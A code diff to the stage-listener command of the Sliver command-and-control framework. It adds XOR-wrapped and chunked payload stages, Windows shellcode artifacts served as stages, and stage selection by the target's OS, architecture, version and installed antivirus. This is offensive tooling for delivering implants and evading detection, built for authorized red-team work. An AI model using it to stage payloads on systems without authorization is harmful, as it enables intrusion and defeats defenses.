@@ -23,6 +23,7 @@ import (
 	"compress/zlib"
 	"context"
 	"encoding/binary"
+	"fmt"
 	"github.com/bishopfox/sliver/util/encoders"
 	"net/url"
 	"strconv"
@@ -43,11 +44,18 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 	aesEncryptIv := ctx.Flags.String("aes-encrypt-iv")
 	prependSize := ctx.Flags.Bool("prepend-size")
 	compress := strings.ToLower(ctx.Flags.String("compress"))
+	xorKey := ctx.Flags.String("xor-key")
+	chunkSize := ctx.Flags.Int("chunk-size")
+	artifactName := ctx.Flags.String("artifact")
 
-	if profileName == "" || listenerURL == "" {
+	if (profileName == "" && artifactName == "") || listenerURL == "" {
 		con.PrintErrorf("Missing required flags, see `help stage-listener` for more info\n")
 		return
 	}
+	if profileName != "" && artifactName != "" {
+		con.PrintErrorf("The default stage is either a --profile or an --artifact, not both\n")
+		return
+	}
 
 	// parse listener url
 	stagingURL, err := url.Parse(listenerURL)
@@ -61,12 +69,6 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		return
 	}
 
-	profile := generate.GetImplantProfileByName(profileName, con)
-	if profile == nil {
-		con.PrintErrorf("Profile not found\n")
-		return
-	}
-
 	aesEncrypt := false
 	if aesEncryptKey != "" {
 		// check if aes encryption key is correct length
@@ -88,35 +90,112 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 
 		aesEncrypt = true
 	}
+	if xorKey != "" && aesEncrypt {
+		con.PrintErrorf("Stages can be wrapped with --xor-key or --aes-encrypt-key, not both\n")
+		return
+	}
+	if chunkSize < 0 {
+		con.PrintErrorf("Invalid chunk size %d\n", chunkSize)
+		return
+	}
 
-	stage2, err := generate.GetSliverBinary(profile, con)
+	stageMappings, err := parseStageMappings(ctx.Flags.String("stages"))
 	if err != nil {
 		con.PrintErrorf("%s\n", err)
 		return
 	}
 
-	switch compress {
-	case "zlib":
-		// use zlib to compress the stage2
-		var compBuff bytes.Buffer
-		zlibWriter := zlib.NewWriter(&compBuff)
-		zlibWriter.Write(stage2)
-		zlibWriter.Close()
-		stage2 = compBuff.Bytes()
-	case "gzip":
-		stage2 = encoders.GzipBuf(stage2)
-	case "deflate9":
-		fallthrough
-	case "deflate":
-		stage2 = util.DeflateBuf(stage2)
+	wrapStage := func(stage2 []byte) []byte {
+		switch compress {
+		case "zlib":
+			// use zlib to compress the stage2
+			var compBuff bytes.Buffer
+			zlibWriter := zlib.NewWriter(&compBuff)
+			zlibWriter.Write(stage2)
+			zlibWriter.Close()
+			stage2 = compBuff.Bytes()
+		case "gzip":
+			stage2 = encoders.GzipBuf(stage2)
+		case "deflate9":
+			fallthrough
+		case "deflate":
+			stage2 = util.DeflateBuf(stage2)
+		}
+
+		if aesEncrypt {
+			// PreludeEncrypt is vanilla AES, we typically only use it for interoperability with Prelude
+			// but it's also useful here as more advanced cipher modes are often difficult to implement in
+			// a stager.
+			stage2 = util.PreludeEncrypt(stage2, []byte(aesEncryptKey), []byte(aesEncryptIv))
+		}
+		if xorKey != "" {
+			stage2 = xorStage(stage2, []byte(xorKey))
+		}
+		return stage2
 	}
 
-	if aesEncrypt {
-		// PreludeEncrypt is vanilla AES, we typically only use it for interoperability with Prelude
-		// but it's also useful here as more advanced cipher modes are often difficult to implement in
-		// a stager.
-		stage2 = util.PreludeEncrypt(stage2, []byte(aesEncryptKey), []byte(aesEncryptIv))
+	var stage2 []byte
+	if artifactName != "" {
+		artifact, err := con.Rpc.ShellcodeArtifactContent(context.Background(), &clientpb.ShellcodeArtifact{Name: artifactName})
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		stage2 = artifact.Data
+	} else {
+		profile := generate.GetImplantProfileByName(profileName, con)
+		if profile == nil {
+			con.PrintErrorf("Profile not found\n")
+			return
+		}
+		stage2, err = generate.GetSliverBinary(profile, con)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
 	}
+	stage2 = wrapStage(stage2)
+
+	stages := []*clientpb.Stage{}
+	for _, mapping := range stageMappings {
+		if name, isArtifact := strings.CutPrefix(mapping.Name, artifactStagePrefix); isArtifact {
+			artifact, err := con.Rpc.ShellcodeArtifactContent(context.Background(), &clientpb.ShellcodeArtifact{Name: name})
+			if err != nil {
+				con.PrintErrorf("%s\n", err)
+				return
+			}
+			mapping.Data = wrapStage(artifact.Data)
+			// Artifacts are windows shellcode for the arch they were converted for
+			if mapping.GOOS == "" {
+				mapping.GOOS = "windows"
+			}
+			if mapping.GOARCH == "" {
+				mapping.GOARCH = artifact.Arch
+			}
+			stages = append(stages, mapping)
+			continue
+		}
+		stageProfile := generate.GetImplantProfileByName(mapping.Name, con)
+		if stageProfile == nil {
+			con.PrintErrorf("Profile %s not found\n", mapping.Name)
+			return
+		}
+		data, err := generate.GetSliverBinary(stageProfile, con)
+		if err != nil {
+			con.PrintErrorf("%s\n", err)
+			return
+		}
+		mapping.Data = wrapStage(data)
+		// Stages are only served to the platform their profile was built for
+		if mapping.GOOS == "" {
+			mapping.GOOS = stageProfile.GetConfig().GetGOOS()
+		}
+		if mapping.GOARCH == "" {
+			mapping.GOARCH = stageProfile.GetConfig().GetGOARCH()
+		}
+		stages = append(stages, mapping)
+	}
+	isStaged := 0 < len(stages) || 0 < chunkSize
 
 	switch stagingURL.Scheme {
 	case "http":
@@ -126,10 +205,12 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		ctrl := make(chan bool)
 		con.SpinUntil("Starting HTTP staging listener...", ctrl)
 		stageListener, err := con.Rpc.StartHTTPStagerListener(context.Background(), &clientpb.StagerListenerReq{
-			Protocol: clientpb.StageProtocol_HTTP,
-			Data:     stage2,
-			Host:     stagingURL.Hostname(),
-			Port:     uint32(stagingPort),
+			Protocol:  clientpb.StageProtocol_HTTP,
+			Data:      stage2,
+			Host:      stagingURL.Hostname(),
+			Port:      uint32(stagingPort),
+			Stages:    stages,
+			ChunkSize: uint32(chunkSize),
 		})
 		ctrl <- true
 		<-ctrl
@@ -151,13 +232,15 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		ctrl := make(chan bool)
 		con.SpinUntil("Starting HTTPS staging listener...", ctrl)
 		stageListener, err := con.Rpc.StartHTTPStagerListener(context.Background(), &clientpb.StagerListenerReq{
-			Protocol: clientpb.StageProtocol_HTTPS,
-			Data:     stage2,
-			Host:     stagingURL.Hostname(),
-			Port:     uint32(stagingPort),
-			Cert:     cert,
-			Key:      key,
-			ACME:     ctx.Flags.Bool("lets-encrypt"),
+			Protocol:  clientpb.StageProtocol_HTTPS,
+			Data:      stage2,
+			Host:      stagingURL.Hostname(),
+			Port:      uint32(stagingPort),
+			Cert:      cert,
+			Key:       key,
+			ACME:      ctx.Flags.Bool("lets-encrypt"),
+			Stages:    stages,
+			ChunkSize: uint32(chunkSize),
 		})
 		ctrl <- true
 		<-ctrl
@@ -167,15 +250,20 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		}
 		con.PrintInfof("Job %d (https) started\n", stageListener.GetJobID())
 	case "tcp":
-		// Always prepend payload size for TCP stagers
-		stage2 = prependPayloadSize(stage2)
+		// Always prepend payload size for TCP stagers, the server frames the stages
+		// of staged listeners itself
+		if !isStaged {
+			stage2 = prependPayloadSize(stage2)
+		}
 		ctrl := make(chan bool)
 		con.SpinUntil("Starting TCP staging listener...", ctrl)
 		stageListener, err := con.Rpc.StartTCPStagerListener(context.Background(), &clientpb.StagerListenerReq{
-			Protocol: clientpb.StageProtocol_TCP,
-			Data:     stage2,
-			Host:     stagingURL.Hostname(),
-			Port:     uint32(stagingPort),
+			Protocol:  clientpb.StageProtocol_TCP,
+			Data:      stage2,
+			Host:      stagingURL.Hostname(),
+			Port:      uint32(stagingPort),
+			Stages:    stages,
+			ChunkSize: uint32(chunkSize),
 		})
 		ctrl <- true
 		<-ctrl
@@ -194,6 +282,78 @@ func StageListenerCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
 		con.PrintInfof("AES KEY: %v\n", aesEncryptKey)
 		con.PrintInfof("AES IV: %v\n", aesEncryptIv)
 	}
+	if xorKey != "" {
+		con.PrintInfof("XOR KEY: %v\n", xorKey)
+	}
+	for _, stage := range stages {
+		con.PrintInfof("Stage %s: %s\n", stage.Name, describeStage(stage))
+	}
+}
+
+// artifactStagePrefix - Stages named 'artifact/<name>' are shellcode artifacts instead of profiles
+const artifactStagePrefix = "artifact/"
+
+// parseStageMappings - Parse 'profile[:key=value[+key=value...]],...' where the keys
+// are os, arch, version (prefix) and av (repeat it to match several products)
+func parseStageMappings(value string) ([]*clientpb.Stage, error) {
+	stages := []*clientpb.Stage{}
+	for _, mapping := range strings.Split(value, ",") {
+		mapping = strings.TrimSpace(mapping)
+		if mapping == "" {
+			continue
+		}
+		name, conditions, _ := strings.Cut(mapping, ":")
+		stage := &clientpb.Stage{Name: name}
+		for _, condition := range strings.Split(conditions, "+") {
+			if condition == "" {
+				continue
+			}
+			key, value, found := strings.Cut(condition, "=")
+			if !found || value == "" {
+				return nil, fmt.Errorf("invalid stage condition '%s' for %s", condition, name)
+			}
+			switch strings.ToLower(key) {
+			case "os":
+				stage.GOOS = strings.ToLower(value)
+			case "arch":
+				stage.GOARCH = strings.ToLower(value)
+			case "version":
+				stage.Version = value
+			case "av":
+				stage.AV = append(stage.AV, value)
+			default:
+				return nil, fmt.Errorf("unknown stage condition '%s' for %s (os, arch, version, av)", key, name)
+			}
+		}
+		stages = append(stages, stage)
+	}
+	return stages, nil
+}
+
+func describeStage(stage *clientpb.Stage) string {
+	conditions := []string{}
+	if stage.GOOS != "" {
+		conditions = append(conditions, "os="+stage.GOOS)
+	}
+	if stage.GOARCH != "" {
+		conditions = append(conditions, "arch="+stage.GOARCH)
+	}
+	if stage.Version != "" {
+		conditions = append(conditions, "version="+stage.Version+"*")
+	}
+	if 0 < len(stage.AV) {
+		conditions = append(conditions, "av="+strings.Join(stage.AV, "|"))
+	}
+	return fmt.Sprintf("%s (%d bytes)", strings.Join(conditions, " "), len(stage.Data))
+}
+
+// xorStage - XOR the stage with the repeated key
+func xorStage(data []byte, key []byte) []byte {
+	xored := make([]byte, len(data))
+	for index := range data {
+		xored[index] = data[index] ^ key[index%len(key)]
+	}
+	return xored
 }
 
 func prependPayloadSize(payload []byte) []byte {